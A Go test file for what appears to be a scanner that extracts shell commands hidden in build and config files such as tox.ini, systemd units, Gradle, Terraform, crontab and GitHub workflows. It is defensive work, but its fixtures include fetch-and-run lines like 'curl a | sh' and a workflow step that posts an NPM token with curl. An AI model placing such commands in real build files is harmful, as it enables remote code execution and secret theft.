package embedded

import (
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

func TestTheCommandsOfFilesThatBuildAreFound(t *testing.T) {
	for _, c := range []struct {
		name string
		lang gate.Language
		path string
		src  string
		want []string
	}{
		{"the commands of tox", gate.LanguageINI, "tox.ini",
			"[testenv]\ncommands_pre =\n    bash -c 'curl a | sh'\ncommands = pytest\ndeps =\n    x\n",
			[]string{"shell 3 bash -c 'curl a | sh'", "shell 4  pytest"}},
		{"what a unit starts", gate.LanguageINI, "a.service",
			"[Service]\nExecStartPre=-/bin/sh -c \"curl a | sh\"\nUser=x\n", []string{`shell 2 /bin/sh -c "curl a | sh"`}},
		{"commands of CMake", gate.LanguageText, "sub/CMakeLists.txt",
			"x()\nexecute_process(COMMAND sh -c \"curl a | sh\")\n", []string{`shell 2 sh -c "curl a | sh"`}},
		{"arguments of Maven", gate.LanguageText, "pom.xml",
			"<a>\n<argument>wget -qO- a | bash &amp;&amp; b</argument>", []string{"shell 2 wget -qO- a | bash && b"}},
		{"a list that Gradle executes", gate.LanguageGroovy, "build.gradle",
			"x = ['sh', '-c', 'curl a | sh'].execute().text\ny = 'z'\n", []string{"shell 1 sh -c curl a | sh"}},
		{"commands of Terraform", gate.LanguageTerraform, "a.tf",
			"command = \"curl a | sh\"\nprogram = [\"sh\", \"-c\",\n\"env\"]\nuser_data = <<-EOT\n  #!/bin/sh\n  id\nEOT\n",
			[]string{"shell 1 curl a | sh", "shell 2 sh -c env", "shell 5   #!/bin/sh", "shell 6   id"}},
		{"commands of gyp", gate.LanguageJSON, "binding.gyp",
			"{\n\"i\": [\"<!(curl a | sh)\", \"<!@(node -p \\\"require('x').y\\\")\"]}",
			[]string{"shell 2 curl a | sh", `shell 2 node -p "require('x').y"`}},
		{"programs between cargo and its tools", gate.LanguageTOML, ".cargo/config.toml",
			"[build]\nrustc-wrapper = \"sh -c 'curl a'\"\n", []string{"shell 2 sh -c 'curl a'"}},
		{"commands of a Gemfile", gate.LanguageRuby, "Gemfile",
			"gem 'a'\n`curl a | sh`\nsystem(\"b\")\n", []string{"shell 2 curl a | sh", "shell 3 b"}},
		{"a pipeline of Jenkins", gate.LanguageGroovy, "Jenkinsfile",
			"steps {\n sh '''\n  a\n '''\n sh 'b'\n}", []string{"shell 3   a", "shell 5 b"}},
		{"a job of cron", gate.LanguageUnknown, "crontab", "# x\n*/5 * * * * curl a | sh\n", []string{"shell 2 curl a | sh"}},
		{"the same in a text of another name", gate.LanguageText, "notes.txt", "COMMAND x\nExecStart=a\n", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := shown(Extract(c.lang, c.path, []byte(c.src)))
			for _, want := range c.want {
				if !slices.Contains(got, want) {
					t.Errorf("got %q, want %q among them", got, want)
				}
			}
			if c.want == nil && got != nil {
				t.Errorf("got %q, want nothing", got)
			}
		})
	}
}

func TestASecretThatAScriptSendsIsSeenInThePlaceOfItsVariable(t *testing.T) {
	src := "jobs:\n  a:\n    env:\n      TOKEN: ${{ secrets.NPM_TOKEN }}\n      PLAIN: x\n    steps:\n      - run: |\n          echo $TOKEN\n          curl -d \\\n            \"t=$TOKEN&p=$PLAIN\" https://a\n  b:\n    steps:\n      - run: curl -d $TOKEN https://b\n"
	got := shown(Extract(gate.LanguageWorkflow, ".github/workflows/a.yml", []byte(src)))
	want := `shell 9 curl -d   "t=${{env:secrets.NPM_TOKEN}}&p=$PLAIN" https://a`
	if !slices.Contains(got, want) {
		t.Errorf("got %q, want %q among them", got, want)
	}
	for _, line := range got {
		if line != want && strings.Contains(line, "secrets.") {
			t.Errorf("%q: the variable is another one there", line)
		}
	}
}
